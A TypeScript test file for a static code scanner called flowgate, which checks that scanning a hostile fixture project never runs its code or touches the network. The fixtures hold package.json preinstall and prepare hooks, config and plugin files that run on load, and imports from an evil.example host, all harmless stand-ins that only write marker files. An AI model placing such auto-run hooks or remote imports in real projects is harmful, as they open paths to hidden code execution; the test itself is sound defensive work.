import dns from "node:dns";
import { existsSync, mkdtempSync, rmSync } from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runMain } from "../support/run-cli.js";
import { removeTree, writeTree } from "../support/temp-tree.js";
import { LEAK, resultLines, scanDir, type TreeScan } from "./scan-tree.js";

/**
 * flowgate reads code, it never runs it, never loads JavaScript from the scanned tree and never touches the network.
 * Every file below would leave a marker file (or open a connection) if anything executed or fetched it.
 */
describe("scanned code is never executed and never steers the scanner", () => {
  const markers = mkdtempSync(path.join(os.tmpdir(), "flowgate-markers-"));
  const marker = (name: string) => path.join(markers, name);
  const writesMarker = (name: string) =>
    `require("fs").writeFileSync(${JSON.stringify(marker(name))}, "executed");\nmodule.exports = {};\n`;
  let root: string;
  let scan: TreeScan;
  const attempts: string[] = [];
  const restore: (() => void)[] = [];

  beforeAll(async () => {
    root = writeTree({
      "flowgate.config.yaml": "extends: recommended\n",
      "src/leak.ts": LEAK,
      "src/top-level.ts": `import { writeFileSync } from "node:fs";\nwriteFileSync(${JSON.stringify(marker("top-level"))}, "executed");\nexport {};\n`,
      "src/side-effect.js": writesMarker("side-effect-js"),
      "src/index.mjs": `import "./side-effect.js";\nawait import(${JSON.stringify(marker("dynamic"))});\n`,
      "src/remote.ts": `import evil from "https://evil.example/module.js";\nexport const x = evil;\n`,
      "flowgate.config.js": writesMarker("config-js"),
      "flowgate.config.cjs": writesMarker("config-cjs"),
      ".flowgaterc.js": writesMarker("rc-js"),
      "plugin.js": writesMarker("plugin-js"),
      "package.json": JSON.stringify({
        name: "hostile",
        scripts: { preinstall: "node plugin.js", prepare: "node plugin.js" },
        flowgate: { plugins: ["./plugin.js"] },
      }),
      "tsconfig.json": JSON.stringify({
        extends: "https://evil.example/tsconfig.json",
        compilerOptions: { plugins: [{ name: "./plugin.js" }], types: ["evil"] },
      }),
      "node_modules/evil/index.js": writesMarker("dependency"),
      "node_modules/evil/package.json": JSON.stringify({ name: "evil", main: "index.js" }),
    });
    // the network, stubbed to fail loudly: any connection or lookup during the scan is recorded and refused
    const stub = <T extends object>(target: T, key: keyof T, label: string) => {
      const original = target[key];
      (target as Record<keyof T, unknown>)[key] = (...args: unknown[]) => {
        attempts.push(`${label} ${String(args[0]).slice(0, 80)}`);
        throw new Error(`network access during a scan: ${label}`);
      };
      restore.push(() => ((target as Record<keyof T, unknown>)[key] = original));
    };
    stub(net.Socket.prototype, "connect", "net.Socket.connect");
    stub(dns, "lookup", "dns.lookup");
    stub(dns, "resolve", "dns.resolve");
    stub(dns.promises, "lookup", "dns.promises.lookup");
    stub(globalThis, "fetch", "fetch");
    // the stubs bite: a connection attempt here is refused and recorded
    expect(() => net.connect(9, "127.0.0.1")).toThrow(/network access/);
    expect(attempts).toHaveLength(1);
    attempts.length = 0;
    try {
      scan = await scanDir(root);
    } finally {
      for (const undo of restore) undo();
    }
  }, 120_000);

  afterAll(() => {
    removeTree(root);
    rmSync(markers, { recursive: true, force: true });
  });

  it("still scans (the leak is found), so the checks below are not vacuous", () => {
    expect(scan.status).toBe(1);
    expect(resultLines(scan)).toContain("leak-to-log src/leak.ts:2");
  });

  it("runs none of it: no marker file appears", () => {
    for (const name of ["top-level", "side-effect-js", "dynamic", "config-js", "config-cjs", "rc-js", "plugin-js", "dependency"]) {
      expect(existsSync(marker(name)), name).toBe(false);
    }
  });

  it("opens no connection and resolves no name", () => {
    expect(attempts).toEqual([]);
  });

  it("refuses a JavaScript policy file, and does not load it", async () => {
    const run = await runMain(["scan", root, "--config", path.join(root, "plugin.js"), "--quiet"]);
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(/plugin\.js/);
    expect(existsSync(marker("plugin-js"))).toBe(false);
  });

  it("refuses a policy that extends a JavaScript file", async () => {
    const hostile = writeTree({ "flowgate.config.yaml": "extends: ./plugin.js\n", "plugin.js": writesMarker("extends-js") });
    try {
      const run = await runMain(["scan", hostile, "--quiet"]);
      expect(run.status).toBe(2);
      expect(existsSync(marker("extends-js"))).toBe(false);
    } finally {
      removeTree(hostile);
    }
  });
});
